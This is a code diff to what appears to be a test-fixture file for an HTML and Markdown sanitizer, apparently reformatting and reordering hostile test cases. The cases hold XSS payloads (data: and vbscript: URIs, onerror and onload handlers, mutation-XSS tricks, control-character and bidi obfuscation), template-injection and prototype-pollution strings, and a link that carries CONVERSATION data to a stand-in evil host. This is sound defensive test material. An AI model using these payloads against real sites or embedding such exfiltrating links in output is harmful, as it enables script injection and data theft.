@@ -91,7 +91,8 @@ MARKUP = (
         "data-links",
         "bicycle",
         f'<a href="data:text/html;base64,{_CODE}">here</a> [here](data:text/html,<script>opener.pwned()</script>) '
-        f"<script src=data:text/javascript;base64,{_CODE}></script> <a href='vbscript:pwned()'>here</a> [x](vbscript:pwned())",
+        f"<script src=data:text/javascript;base64,{_CODE}></script> <a href='vbscript:pwned()'>here</a> "
+        "[here](vbscript:pwned())",
     ),
     Case(
         "frames",
@@ -155,7 +156,7 @@ MARKDOWN = (
     Case(
         "reference-links",
         "parsley",
-        f'[the report][r] and ![the chart][r] and [r]\n\n[r]: {_EVIL}/?q=CONVERSATION "Report"\n\nwords',
+        f'[the report][r] and ![the chart][r] and [r]\n\n[r]: {_EVIL}/?q=CONVERSATION "Report"',
     ),
     Case("autolinks", "canyon", f"<{_EVIL}/auto> {_EVIL}/bare www.evil.example <take@evil.example> ftp://evil.example"),
     Case(
@@ -191,7 +192,8 @@ DISGUISES = (
         "mutation-noscript-template",
         "balcony",
         '<noscript><p title="</noscript><img src=x onerror=pwned()>"> <template><script>pwned()</script></template> '
-        '<template shadowrootmode=open><img src=x onerror=pwned()></template> <xmp><p title="</xmp><svg onload=pwned()>">',
+        "<template shadowrootmode=open><img src=x onerror=pwned()></template> "
+        '<xmp><p title="</xmp><svg onload=pwned()>">',
     ),
     Case(
         "mutation-namespaces",
@@ -217,13 +219,13 @@ DISGUISES = (
     Case(
         "control-characters",
         "raspberry",
-        "<\x01script>pwned()</script> <img\x0bsrc=x\x0conerror=pwned()> \x1b[31mred\x1b[0m \x1b]0;title\x07 \x08\x08\x7f "
-        "\x85 \ufeff \ufffe \uffff \ufffd java\x01script:pwned() \u2028<svg onload=pwned()>\u2029",
+        "<\x01script>pwned()</script> <img\x0bsrc=x\x0conerror=pwned()> \x1b[31mred\x1b[0m \x1b]0;title\x07 "
+        "\x08\x08\x7f \x85 \ufeff \ufffe \uffff \ufffd java\x01script:pwned() \u2028<svg onload=pwned()>\u2029",
     ),
     Case(
         "bidi-overrides",
         "pelican",
-        "\u202edesrever si siht\u202c and \u202eopen \u202dnever closed; \u202bembedded \u202aagain",
+        "\u202esdrawkcab daer\u202c and \u202eopen \u202dnever closed; \u202bembedded \u202aagain",
         "\u202edaeh",
     ),
     Case(
@@ -240,7 +242,7 @@ DISGUISES = (
         "ev\u00adil.example \U000e0041\U000e0042\U000e0043 Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d algo "
         "\U0001f469\u200d\U0001f680 <scrıpt>pwned()</scrıpt>",
     ),
-    Case("long-words", "chandelier", "W" * 1_000 + " <" + "a" * 300 + " onclick=pwned()> " + "9" * 300),
+    Case("long-words", "chandelier", "W" * 800 + " <" + "a" * 200 + " onclick=pwned()> " + "9" * 200),
     Case(
         "names-of-properties",
         "tangerine",
@@ -307,14 +309,14 @@ ATTACKERS = (
         "machine",
         CASES[10:20],
     ),
+    Attacker("constructor/__proto__", "{{7*7}} ${7*7} {title} $& __proto__", "%s {n}", "__proto__", CASES[20:30]),
     Attacker(
         "\u202edi%2e%2e/ %00 & \\ + ;",
         "\u202eeltit \u2067and more",
         "\u202eetteza\u2067G",
         "human",
-        CASES[20:30],
+        CASES[30:],
     ),
-    Attacker("constructor/__proto__", "{{7*7}} ${7*7} {title} $& __proto__", "%s {n}", "__proto__", CASES[30:]),
 )
 
 
